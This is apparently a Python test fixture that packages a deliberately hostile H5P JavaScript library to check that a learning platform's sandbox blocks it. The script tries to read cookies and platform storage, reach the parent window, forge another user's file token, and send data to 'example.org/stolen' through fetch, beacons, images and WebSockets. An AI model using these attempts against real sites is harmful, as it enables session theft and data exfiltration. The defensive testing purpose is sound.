"""A package that tries to get out: cookies, storage, the page, the window, forms, others' files."""

from typing import Any

from tests.factories.h5p import LibraryFiles

# Each attempt says "refused…" or what it got. Nothing but "refused" may ever be read.
SCRIPT = """\
var H5P = H5P || {};
H5P.LmsSample = (function (EventDispatcher) {
  function LmsSample() { EventDispatcher.call(this); }
  LmsSample.prototype = Object.create(EventDispatcher.prototype);
  var attempts = {
    cookie_read: function () { return document.cookie || 'refused: empty'; },
    cookie_write: function () {
      document.cookie = 'evil=1; path=/';
      return document.cookie.indexOf('evil') < 0 ? 'refused: not kept' : 'kept';
    },
    storage: function () {
      return localStorage.getItem('secret') === 'of the platform' && window.origin !== 'null'
        ? 'read the platform' : 'refused: own';
    },
    parent_document: function () { return window.parent.document.title; },
    parent_storage: function () { return window.parent.localStorage.length + ''; },
    parent_script: function () { window.parent.H5P = 1; return 'wrote'; },
    frame_element: function () { return window.frameElement ? 'found' : 'refused: none'; },
    top_location: function () { window.top.location.href = '/fr/stolen/'; return 'navigated'; },
    top_replace: function () { window.top.location.replace('/fr/stolen/'); return 'navigated'; },
    popup: function () { return window.open('/fr/stolen/') ? 'opened' : 'refused: null'; },
    dialog: function () { return window.confirm('Mot de passe ?') ? 'asked' : 'refused: no'; },
    form: function () {
      var form = document.createElement('form');
      form.method = 'post'; form.action = '/fr/courses/hostile/jouer/stolen/';
      document.body.appendChild(form); form.submit();
      return 'refused: sandbox keeps forms';
    },
    evaluate: function () { return eval('"evaluated"'); },
    inline: function () {
      var script = document.createElement('script');
      script.textContent = 'window.inlined = true';
      document.head.appendChild(script);
      return window.inlined ? 'ran' : 'refused: policy';
    },
    database: function () { return indexedDB.open('x') ? 'opened' : 'refused'; },
    peer: function () { return new RTCPeerConnection() ? 'opened' : 'refused'; },
  };
  function fetched(address, options) {
    return fetch(address, options).then(function (response) {
      return response.status >= 400 ? 'refused: ' + response.status : 'got ' + response.status;
    });
  }
  var home = new URL(H5PIntegration.baseUrl);
  var later = {
    own_dashboard: function () { return fetched(home.origin + '/fr/dashboard/'); },
    with_cookies: function () {
      return fetched(home.origin + '/fr/dashboard/', { credentials: 'include' });
    },
    start_play: function () {
      return fetched(home.origin + '/fr/courses/hostile/jouer/activity/unit/', {
        method: 'POST', body: '{}', credentials: 'include',
        headers: { 'Content-Type': 'application/json' },
      });
    },
    record: function () {
      var token = H5PIntegration.url.split('/').pop();
      return fetched(home.origin + '/h5p/play/' + token + '/statements/', {
        method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json' },
      });
    },
    other_token: function () {
      var token = H5PIntegration.url.split('/').pop();
      var parts = token.split(':');
      var data = JSON.parse(atob(parts[0].replace(/-/g, '+').replace(/_/g, '/')));
      data.user_id += 1;
      var forged = btoa(JSON.stringify(data)).replace(/=+$/, '');
      return fetched(home.origin + '/h5p/files/' + forged + ':' + parts[1] + '/images/scene.png');
    },
    elsewhere: function () { return fetched('https://example.org/stolen?x=1'); },
    beacon: function () {
      return Promise.resolve(navigator.sendBeacon('https://example.org/stolen', 'x')
        ? 'refused: only queued, the policy stops it' : 'refused');
    },
    image: function () {
      return new Promise(function (done) {
        var image = new Image();
        image.onload = function () { done('loaded'); };
        image.onerror = function () { done('refused: policy'); };
        image.src = 'https://example.org/stolen.png';
      });
    },
    socket: function () {
      return new Promise(function (done) {
        var socket = new WebSocket('wss://example.org/stolen');
        socket.onopen = function () { done('opened'); };
        socket.onerror = function () { done('refused: policy'); };
      });
    },
    worker: function () {
      return new Promise(function (done) {
        var worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.onmessage = function () { done('ran'); };
        worker.onerror = function () { done('refused: policy'); };
      });
    },
    frame: function () {
      return new Promise(function (done) {
        var frame = document.createElement('iframe');
        frame.src = home.origin + '/fr/dashboard/';
        frame.onload = function () {
          try { done(frame.contentDocument.title ? 'read' : 'refused: empty'); }
          catch (error) { done('refused: ' + error.name); }
        };
        document.body.appendChild(frame);
      });
    },
  };
  LmsSample.prototype.attach = function ($container) {
    var box = document.createElement('pre');
    box.id = 'report';
    $container.get(0).appendChild(box);
    var report = {};
    Object.keys(attempts).forEach(function (name) {
      try { report[name] = String(attempts[name]()); }
      catch (error) { report[name] = 'refused: ' + error.name; }
    });
    Promise.all(Object.keys(later).map(function (name) {
      var wait = new Promise(function (done) { setTimeout(done, 4000, 'refused: no answer'); });
      var attempt;
      try { attempt = Promise.race([later[name](), wait]); }
      catch (error) { attempt = Promise.reject(error); }
      return attempt.then(String, function (error) { return 'refused: ' + error.name; })
        .then(function (result) { report[name] = result; });
    })).then(function () {
      box.textContent = JSON.stringify(report);
      box.dataset.done = '';
    });
  };
  return LmsSample;
})(H5P.EventDispatcher);
"""


def hostile_parts() -> dict[str, Any]:
    """What `activity_make` takes."""
    return {"libraries": [LibraryFiles(script=SCRIPT, minor=0)]}
